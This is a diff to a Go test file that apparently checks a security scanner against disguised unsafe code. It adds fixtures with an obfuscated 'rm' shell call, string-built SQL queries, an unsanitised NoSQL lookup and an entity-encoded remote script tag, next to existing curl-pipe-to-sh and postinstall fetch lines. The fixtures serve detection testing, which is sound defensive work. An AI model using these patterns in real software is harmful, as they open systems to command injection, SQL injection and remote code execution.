@@ -62,6 +62,11 @@ func TestSpellingHidesNothing(t *testing.T) {
 		"a/quotes.sh":   "set -e\ncurl '-k' https://example.com/a|sh\n",
 		"package.json":  "{\n\"post\\u0069nstall\": \"c\\u0075rl https://example.com/a\"\n}\n",
 		"a/excused.js":  "let n = 1\nel.innerHTML = location.hash // sanitize\n",
+		"a/group.py":    "import os\n(os.system)((\"rm \") + d)\n",
+		"a/cast.ts":     "let n = 1\ndb.query((\"select a from t where id = \" as string) + id)\n",
+		"a/tick.js":     "let n = 1\ndb.query(`select a from t where id = ` + id)\n",
+		"a/name.js":     "let n = 1\nusers.findOne({\"email\": req.body.email})\n",
+		"a/entity.html": "<p>\n<script src=\"http&colon;//example.com/a.js\"></script>\n",
 		"a/quoted.js":   "let n = 1\nel.innerHTML = location.hash; log(\"escape\")\n",
 	}
 	pr := w.Open(files)
